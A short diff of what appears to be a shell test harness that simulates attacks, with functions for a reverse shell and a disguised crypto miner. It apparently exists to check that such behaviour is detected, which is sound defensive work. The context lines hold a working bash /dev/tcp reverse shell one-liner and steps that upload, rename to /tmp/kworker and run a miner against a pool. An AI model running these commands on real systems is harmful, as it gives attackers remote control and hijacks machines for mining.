@@ -230,7 +230,7 @@ attack_command_injection() {
 attack_reverse_shell() {
 	harm exec '/usr/bin/bash'
 	harm connect "$peer_address:4444"
-	thief_begin 'id; exit'
+	thief_shell 'id; exit'
 	shell_command "bash -c 'bash -i >& /dev/tcp/$peer_address/4444 0>&1'"
 	thief_got uid=1000
 }
@@ -277,7 +277,7 @@ attack_miner() {
 	harm exec '/tmp/kworker'
 	harm connect "$peer_address:3333"
 	pool_begin
-	fetch /files/kworker -T - <"$miner" || client_stdin curl -sS -T - "http://$own_address:$port/files/kworker" <"$miner"
+	client_stdin curl -sS -T - "http://$own_address:$port/files/kworker" <"${miner:?}"
 	shell_command "cp kworker /tmp/kworker; chmod 755 /tmp/kworker; /tmp/kworker $peer_address 3333 3"
 	pool_got
 }
